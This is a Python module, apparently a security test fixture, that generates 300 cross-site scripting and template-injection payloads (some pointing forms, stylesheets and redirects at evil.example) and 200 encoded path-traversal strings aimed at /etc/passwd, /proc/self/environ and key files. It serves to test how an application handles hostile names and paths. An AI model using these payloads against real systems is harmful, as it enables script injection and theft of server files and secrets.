"""What somebody may write where a name is expected: markup that would run, and paths that would lead elsewhere."""

from itertools import product
from urllib.parse import quote

RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=x>",
    "<button formaction=//evil.example>x</button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
)
CLOSES = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</td>",
    "</option></select>",
    "</title>",
    "</svg>",
    "--></table>",
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)" x="',
)
PAYLOADS = tuple(f"{before}{runs}" for before, runs in product(CLOSES, RUNS))
"""300: each of the first behind each of the second."""

STEPS = ("..", "%2e%2e", "..%00", ".%2e", "%252e%252e", "..;", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "．．", "....")
SLASHES = ("/", "%2f", "\\", "%5c", "%252f")
TARGETS = ("etc/passwd", "page/accounts.json", "page/key", "proc/self/environ")
PATHS = tuple(
    f"{slash.join([step] * 6)}{slash}{target.replace('/', slash)}"
    for step, slash, target in product(STEPS, SLASHES, TARGETS)
)
"""200: each way to write a step upwards, with each slash, to each place."""


def encoded(path: str) -> str:
    """A path as a browser puts it into an address; what is encoded already stays."""
    return quote(path, safe="/%\\;.")
